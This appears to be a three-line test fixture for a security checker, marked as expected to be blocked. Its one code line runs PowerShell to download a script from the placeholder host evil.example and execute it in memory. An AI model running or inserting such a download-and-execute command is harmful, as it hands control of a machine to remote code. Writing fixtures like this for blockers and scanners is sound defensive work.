# expect: BLOCKED
import os
os.system("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x.ps1')\"")
